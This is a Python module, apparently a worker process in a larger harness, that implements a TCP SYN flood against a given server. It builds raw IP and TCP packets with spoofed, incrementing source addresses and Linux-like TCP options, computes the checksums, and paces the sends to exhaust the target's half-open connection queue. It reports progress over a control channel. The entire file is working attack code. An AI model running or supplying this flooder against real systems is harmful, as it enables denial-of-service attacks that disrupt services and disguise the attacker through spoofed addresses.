"""The process that floods a server with half-open connections."""
import _socket
import gc
import os
import select
import struct
import time

from .clock import now
from .errors import errno_name
from .frames import to_json


def internet_sum(data, start=0):
    """RFC 1071, not yet complemented; `data` of even length."""
    total = start + sum(struct.unpack(">%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return total


def flood(spec, control):
    """SYNs with foreign source addresses, each from its own, with the options of a Linux client."""
    gc.disable()
    tell = lambda message: control.send(to_json(dict(message, child=spec["child"], t=now())))
    sent = 0
    try:
        sock = _socket.socket(_socket.AF_INET, _socket.SOCK_RAW, _socket.IPPROTO_RAW)  # IP_HDRINCL
        to = _socket.inet_aton(spec["to"][0])
        base = struct.unpack(">I", _socket.inet_aton(spec["from"]))[0]
        # mss 1460, sackOK, timestamps, nop, wscale 7
        options = struct.pack(">BBHBBBBIIBBBB", 2, 4, 1460, 4, 2, 8, 10, 1, 0, 1, 3, 3, 7)
        poll = select.poll()
        poll.register(control, select.POLLIN)
        start = told = time.monotonic()
        while sent < spec["count"]:
            moment = time.monotonic()
            # A sender that was held up must not make up for it in one burst.
            due = min(int((moment - start) / spec["every"]) + 1 - sent, 64)
            if moment - told > 0.05:
                told = moment
                tell({"event": "flooding", "sent": sent})
            if due <= 0:
                if poll.poll(max(0, (start + sent * spec["every"] - moment) * 1000)):
                    os._exit(0)
                continue
            if due == 64:
                start = moment - (sent + 63) * spec["every"]
            for index in range(sent, min(sent + due, spec["count"])):
                source = struct.pack(">I", base + spec["first"] + index)
                tcp = struct.pack(">HHIIBBHHH", 1024 + (spec["first"] + index) % 60000, spec["to"][1],
                                  struct.unpack("I", os.urandom(4))[0], 0, 0xa0, 2, 64240, 0, 0) + options
                pseudo = internet_sum(source + to + struct.pack(">HH", 6, len(tcp)))
                tcp = tcp[:16] + struct.pack(">H", 0xffff - internet_sum(tcp, pseudo)) + tcp[18:]
                header = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0, source, to)
                sock.sendto(header + tcp, (spec["to"][0], 0))
                sent += 1
        tell({"event": "flooded", "sent": sent})
    except OSError as error:
        tell({"event": "flooded", "sent": sent, "errno": errno_name(error)})
    os._exit(0)
